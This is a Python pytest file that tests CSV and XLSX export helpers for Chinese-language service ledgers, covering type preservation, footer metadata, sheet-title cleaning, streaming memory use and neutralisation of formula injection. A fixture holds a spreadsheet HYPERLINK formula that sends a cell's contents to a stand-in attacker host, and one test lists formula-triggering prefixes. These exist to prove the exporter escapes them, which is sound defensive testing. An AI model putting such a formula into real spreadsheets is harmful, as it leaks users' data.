"""Lists for Chinese Excel: nothing is run, nothing is rounded away, nothing is unreadable."""

import csv
import tracemalloc
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.utils import translation
from openpyxl import load_workbook

from core.sheets import Column, neutral, write_csv, write_xlsx

AT = datetime(2026, 11, 2, 1, 30, tzinfo=UTC)
COLUMNS = [
    Column("编号", width=20),
    Column("身份证号", width=20),
    Column("说明"),
    Column("日期", "date"),
    Column("受理时间", "moment"),
    Column("金额", "money"),
    Column("次数", "number"),
]
ID_NUMBER = "510703199003070011"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
ROW = ["C-2026-0001", ID_NUMBER, FORMULA, date(2026, 11, 2), AT, Decimal("-12.50"), 3]
FACTS = {"title": "服务台账", "columns": COLUMNS, "notes": {"筛选": "=本站，11月"}, "at": AT}


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def xlsx(rows):
    stream = BytesIO()
    count = write_xlsx(stream, rows=rows, **FACTS)
    return count, load_workbook(stream).active


def lines(rows):
    stream = BytesIO()
    write_csv(stream, rows=rows, **FACTS)
    assert stream.getvalue().startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(stream.getvalue().decode("utf-8-sig"))))


def test_a_sheet_keeps_each_value_as_what_it_is():
    count, sheet = xlsx([ROW])
    assert count == 1
    assert [cell.value for cell in sheet[1]] == [column.label for column in COLUMNS]
    number, id_number, text, day, moment, amount, times = sheet[2]
    assert (number.value, id_number.value) == ("C-2026-0001", ID_NUMBER)
    assert id_number.data_type == "s"
    assert (text.value, text.data_type) == ("'" + FORMULA, "s")
    assert (day.value.isoformat(), day.number_format) == ("2026-11-02T00:00:00", "yyyy-mm-dd")
    assert moment.value.isoformat() == "2026-11-02T09:30:00", "in local time"
    assert (amount.value, amount.number_format) == (-12.5, "#,##0.00")
    assert times.value == 3
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == pytest.approx(20, abs=1)
    assert sheet.title == "服务台账"


def test_a_list_says_its_filter_count_and_time():
    _count, sheet = xlsx([ROW, ROW])
    assert [[cell.value for cell in row[:2]] for row in sheet.iter_rows(min_row=4)] == [
        [None, None],
        ["筛选", "'=本站，11月"],
        ["Rows", "2"],
        ["Exported at", "2026-11-02 09:30"],
    ]
    assert lines([ROW])[2:] == [
        [],
        ["服务台账"],
        ["筛选", "'=本站，11月"],
        ["Rows", "1"],
        ["Exported at", "2026-11-02 09:30"],
    ]


def test_csv_reads_back():
    assert lines([ROW])[1] == [
        "C-2026-0001", ID_NUMBER, "'" + FORMULA, "2026-11-02", "2026-11-02 09:30", "-12.50", "3",
    ]  # fmt: skip


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠", "\x00=", "\x0b="])
def test_nothing_a_resident_typed_is_a_formula(start):
    assert neutral(f"{start}1+1").startswith("'")
    assert lines([[start + "1", "", "", None, None, None, None]])[1][0].startswith("'")
    _count, sheet = xlsx([[start + "1", "", "", None, None, None, None]])
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value.startswith("'")


def test_plain_text_stays_untouched():
    for text in ("张小明", "𠮷·里", "1-2", "", "'x", "a\nb"):
        assert neutral(text) == text


def test_empty_cells_and_empty_lists():
    _count, sheet = xlsx([[None] * 7])
    assert all(cell.value is None for cell in sheet[2])
    assert xlsx([])[0] == 0


def test_a_row_of_the_wrong_length_is_a_mistake():
    with pytest.raises(ValueError, match="zip"):
        xlsx([ROW[:-1]])


def test_a_title_that_excel_does_not_allow_as_a_name_of_a_sheet():
    stream = BytesIO()
    write_xlsx(stream, rows=[], **FACTS | {"title": "'服务/台账[2026]:*?" + "长" * 40})
    assert load_workbook(stream).active.title.startswith("服务 台账 2026")


class Sink:
    """Somewhere to write to that keeps nothing."""

    closed = False

    def write(self, data) -> int:
        return len(data)

    def writable(self) -> bool:
        return True

    readable = seekable = lambda self: False

    def flush(self) -> None:
        """Nothing is kept."""


def test_a_long_list_takes_no_more_memory_than_a_short_one():
    def peak(count: int) -> int:
        tracemalloc.start()
        write_csv(Sink(), rows=(ROW for _ in range(count)), **FACTS)
        used = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return used

    peak(10)
    assert peak(20_000) < peak(200) + 100_000
